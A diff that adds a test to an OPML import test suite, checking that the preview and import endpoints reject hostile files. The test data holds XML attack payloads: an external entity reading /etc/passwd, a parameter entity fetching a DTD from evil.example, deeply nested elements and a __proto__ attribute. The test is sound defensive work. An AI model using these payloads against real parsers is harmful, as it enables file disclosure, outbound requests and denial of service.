@@ -221,4 +221,23 @@ describe('OPML', () => {
     expect(noFile.status).toBe(400);
     expect(await sources()).toHaveLength(3);
   });
+
+  it('answers 400 to entities, deep nesting and __proto__ names on preview and import', async () => {
+    const doc = (body: string, doctype = '') =>
+      `<?xml version="1.0"?>${doctype}<opml version="2.0"><head/><body>${body}</body></opml>`;
+    const one = '<outline text="a" xmlUrl="https://h.example/f"/>';
+    const hostile = [
+      doc(one.replace('"a"', '"&x;"'), '<!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
+      doc(one, '<!DOCTYPE opml [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'),
+      doc('<outline text="g">'.repeat(20_000) + '</outline>'.repeat(20_000)),
+      doc(one.replace('text=', '__proto__="x" text=')),
+    ];
+    for (const path of ['preview', 'import'])
+      for (const file of hostile) {
+        const res = await upload(path, file);
+        expect(res.status, `${path} ${file.slice(0, 80)}`).toBe(400);
+        expect((await res.json()).error).toMatch(/^The file is not valid OPML: /);
+      }
+    expect(await sources()).toHaveLength(3);
+  });
 });
